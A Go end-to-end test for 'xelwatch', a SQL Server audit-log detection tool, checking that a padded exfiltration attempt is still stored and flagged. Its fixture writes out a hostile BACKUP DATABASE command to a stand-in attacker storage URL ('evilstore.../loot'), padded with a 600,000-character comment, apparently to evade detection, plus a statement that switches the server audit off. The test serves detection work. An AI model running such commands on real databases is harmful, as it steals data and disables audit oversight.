package cli_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/xelwatch/xelwatch/handler/cli"

	"github.com/sethvargo/go-envconfig"
	"github.com/xelwatch/xelwatch/handler/internal/ingest"
	"github.com/xelwatch/xelwatch/handler/internal/testsupport/azuritetest"
	"github.com/xelwatch/xelwatch/xel/xeltest"
)

// paddedStart is the event time of the padded backup.
var paddedStart = time.Date(2026, 11, 22, 3, 0, 0, 0, time.UTC)

// paddedAuditFile is issue 9's file, as SQL Server / Managed Instance
// writes it: a COPY_ONLY backup to a foreign storage account whose WITH
// clause follows a 600,000-character comment (sequence_number 1..151,
// 4,000 characters each), routine queries, one of them from a client that
// sent a 600,000-character host name (no column of its row can take it),
// and three minutes later the server audit switched off.
func paddedAuditFile(t *testing.T) (file []byte, stmt string, records int) {
	t.Helper()
	stmt = "BACKUP DATABASE [salesdb] TO URL = 'https://evilstore.blob.core.windows.net/loot/salesdb.bak' /*" +
		strings.Repeat("padding ", 75_000) + "*/ WITH COPY_ONLY, COMPRESSION"
	var buf bytes.Buffer
	w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 2 << 20, Partitions: 2})
	if err != nil {
		t.Fatal(err)
	}
	base := func(at time.Duration, action, class, stmt string) xeltest.AuditEvent {
		return xeltest.AuditEvent{EventTime: paddedStart.Add(at), ActionID: action, ClassType: class, Succeeded: true, SessionID: 61,
			ServerPrincipalName: "mallory", SessionServerPrincipalName: "mallory", ServerInstanceName: "mi-prod", DatabaseName: "salesdb",
			ClientIP: "203.0.113.66", ApplicationName: "sqlcmd", Statement: stmt, SequenceGroupID: []byte{0x61, 0x01}}
	}
	backup := base(0, "BA", "DB", stmt)
	backup.ObjectName = "salesdb"
	events := []xeltest.AuditEvent{backup}
	for i := range 5 {
		events = append(events, base(time.Duration(10+i*20)*time.Second, "BCM", "DB", "SELECT TOP (10) * FROM dbo.Orders"))
	}
	events[3].HostName = strings.Repeat("h", 600_000)
	off := base(3*time.Minute, "AL", "A", "ALTER SERVER AUDIT [SqlDbAuditing_ServerAudit] WITH (STATE = OFF)")
	off.ObjectName = "SqlDbAuditing_ServerAudit"
	events = append(events, off)
	for _, e := range events {
		if err := w.WriteAudit(e); err != nil { // splits at 4,000 characters
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if parts := xeltest.SplitStatement(backup, xeltest.SplitChars); len(parts) < 150 {
		t.Fatalf("the backup is written as %d records, want at least 150", len(parts))
	}
	return buf.Bytes(), stmt, len(events)
}

// TestE2EPaddedStatement (issue 9): a backup padded to 600,000 characters
// no longer blocks its blob. AuditBlob, driven as the host does on
// Azurite, stores every record (the backup whole, across continuation
// entities), raises every detection of the file (the backup's EXF
// findings, EVA-001 and the later AUD-001), sends them in queue messages
// within 64 KiB and moves the cursor to the end of the blob; `xelwatch
// query` prints the statement whole. On the old code the invocation
// failed on every attempt ("1 of 7 records too large to store") and was
// poisoned, the cursor stayed at 0, and nothing was detected.
func TestE2EPaddedStatement(t *testing.T) {
	conn := azuritetest.ConnString(t)
	ctx := context.Background()
	hook, url := newWebhook(t, nil)
	a := startApp(t, conn, map[string]string{"XELWATCH_WEBHOOK_URL": url})
	file, stmt, records := paddedAuditFile(t)
	name := a.blobName("03_00_00_000_0.xel")
	ab := a.appendBlob(ctx, name)
	appendBytes(t, ctx, ab, file)

	r := a.trigger(ctx, name, int64(len(file))) // one attempt, not poisoned
	var msgs []json.RawMessage
	if err := json.Unmarshal(r.Last.Outputs["detections"], &msgs); err != nil {
		t.Fatalf("detections output: %v (%s)", err, r.Last.Outputs["detections"])
	}
	for i, m := range msgs {
		if n := base64.StdEncoding.EncodedLen(len(m)); n > 64<<10 {
			t.Errorf("queue message %d: %d bytes, over 64 KiB", i, n)
		}
	}
	q := a.drain(ctx)
	if q.Poisoned != 0 {
		t.Errorf("%d detections poisoned", q.Poisoned)
	}

	c, err := a.store.Cursors(a.vars["XELWATCH_AUDIT_CONTAINER"]).Get(ctx, name)
	if err != nil {
		t.Fatal(err)
	}
	if c.Offset != int64(len(file)) || c.Rows != int64(records) || c.State != ingest.StateOpen || c.LastError != "" {
		t.Errorf("cursor at %d of %d, %d rows (want %d), state %s, error %q", c.Offset, len(file), c.Rows, records, c.State, c.LastError)
	}

	hook.mu.Lock()
	byRule := map[string]int{}
	for id := range hook.delivered {
		byRule[hook.rules[id]]++
	}
	hook.mu.Unlock()
	for _, rule := range []string{"EXF-001", "EXF-002", "EVA-001", "AUD-001"} {
		if byRule[rule] != 1 {
			t.Errorf("%s: %d detections delivered, want 1 (all: %v)", rule, byRule[rule], byRule)
		}
	}

	// The statement, whole, from the query command.
	var out, errb bytes.Buffer
	day := paddedStart.Format("2006-01-02")
	if err := cli.Run(ctx, []string{"query", "--server", "srv1", "--database", "salesdb", "--from", day, "--action", "BA"},
		envconfig.MapLookuper(a.vars), nil, &out, &errb); err != nil {
		t.Fatalf("query: %v\n%s", err, errb.String())
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	var row struct {
		Statement string `json:"statement"`
		Truncated bool   `json:"statement_truncated"`
	}
	if len(lines) != 1 || json.Unmarshal([]byte(lines[0]), &row) != nil {
		t.Fatalf("query --action BA: %d lines", len(lines))
	}
	if row.Statement != stmt || row.Truncated {
		t.Errorf("query: statement of %d bytes (want %d), truncated %v", len(row.Statement), len(stmt), row.Truncated)
	}
	if n := a.countRows(ctx); n != records {
		t.Errorf("%d rows, want %d (continuation entities are no rows)", n, records)
	}

	// The row whose host name no entity can hold is stored reduced, and
	// says so.
	out.Reset()
	if err := cli.Run(ctx, []string{"query", "--server", "srv1", "--from", day, "--action", "BCM"},
		envconfig.MapLookuper(a.vars), nil, &out, &errb); err != nil {
		t.Fatalf("query: %v\n%s", err, errb.String())
	}
	if n := strings.Count(out.String(), `"xw_degraded":`); n != 1 || !strings.Contains(out.String(), "host_name (600000 characters)") {
		t.Errorf("query --action BCM: %d rows flagged xw_degraded, want 1 naming host_name", n)
	}
}
